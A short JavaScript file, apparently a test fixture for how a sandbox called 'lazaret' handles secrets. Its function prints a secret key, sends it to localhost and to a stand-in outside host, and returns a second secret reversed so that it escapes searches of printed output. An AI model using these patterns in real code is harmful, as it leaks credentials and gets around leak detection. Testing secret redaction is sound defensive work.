// Uses secrets: one that it has a placeholder of, and one that it is told.
const told = async (promise) => {
  try {
    return await (await promise).text();
  } catch (error) {
    return `${error.name}: ${error.message}`;
  }
};

export async function ask(port) {
  const kept = lazaret.secrets.get("kept");
  console.log(kept);
  const headers = { "x-key": kept };
  return {
    answer: await told(fetch(`http://localhost:${port}/?key=${kept}`, { headers })),
    other: await told(fetch(`http://other.example:${port}/`, { headers })),
    ended: await told(fetch("https://ended.example/")),
    kept,
    // Backwards: whoever looks for it in what is printed finds nothing.
    exposed: [...lazaret.secrets.get("exposed")].reverse().join(""),
  };
}
